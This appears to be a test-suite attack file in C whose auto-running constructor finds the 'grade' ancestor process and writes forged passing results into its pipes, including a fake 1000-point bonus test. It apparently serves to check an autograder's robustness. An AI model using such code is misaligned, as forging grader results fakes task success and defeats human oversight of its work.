
/* ---- attack: write test lines into the grader's pipe (tests/attacks/results-pipe) ---- */
#include <dirent.h>
#include <fcntl.h>

/* The parent of process pid, or -1 (/proc/PID/stat: "pid (comm) S ppid ..."). */
static pid_t atk_ppid(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    int ppid = -1;
    return p && sscanf(p, ") %*c %d", &ppid) == 1 ? (pid_t)ppid : -1;
}

/* The nearest ancestor named comm (walking the ppid chain), or -1. */
static pid_t atk_ancestor(const char *comm)
{
    for (pid_t pid = getppid(); pid > 1; pid = atk_ppid(pid)) {
        char path[64], name[64] = "";
        snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
        FILE *f = fopen(path, "r");
        if (f && fgets(name, sizeof name, f))
            name[strcspn(name, "\n")] = '\0';
        if (f)
            fclose(f);
        if (strcmp(name, comm) == 0)
            return pid;
    }
    return -1;
}

/* Test lines as the harness writes them (test NAME LINE POINTS STATUS DESC
 * HINT MESSAGE): the lesson's real names, a made-up one with 1000 points,
 * and one with empty fields. */
static const char atk_lines[] = "test\thelp\t128\t28\tpass\tall\tgood\t\n"
                                "test\ttcp_socket\t138\t28\tpass\tall\tgood\t\n"
                                "test\tbonus\t1\t1000\tpass\tbonus\tgood\t\n"
                                "test\t\t\t100\tpass\t\t\t\n"
                                "end\n";

/* Open every pipe an ancestor holds, through /proc/PID/fd (which reopens
 * the pipe for writing), and write the lines into it. Stops at grade. */
__attribute__((constructor)) static void atk_results_pipe(void)
{
    pid_t grade = atk_ancestor("grade");
    for (pid_t pid = getppid(); pid > 1; pid = atk_ppid(pid)) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d/fd", (int)pid);
        DIR *d = opendir(dir);
        for (struct dirent *e; d && (e = readdir(d));) {
            char path[400], target[64] = "";
            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
            if (readlink(path, target, sizeof target - 1) <= 0 || strncmp(target, "pipe:", 5) != 0)
                continue;
            int fd = open(path, O_WRONLY | O_NONBLOCK);
            if (fd >= 0) {
                ssize_t n = write(fd, atk_lines, sizeof atk_lines - 1);
                (void)n;
                close(fd);
            }
        }
        if (d)
            closedir(d);
        if (pid == grade || grade < 0)
            break;
    }
}
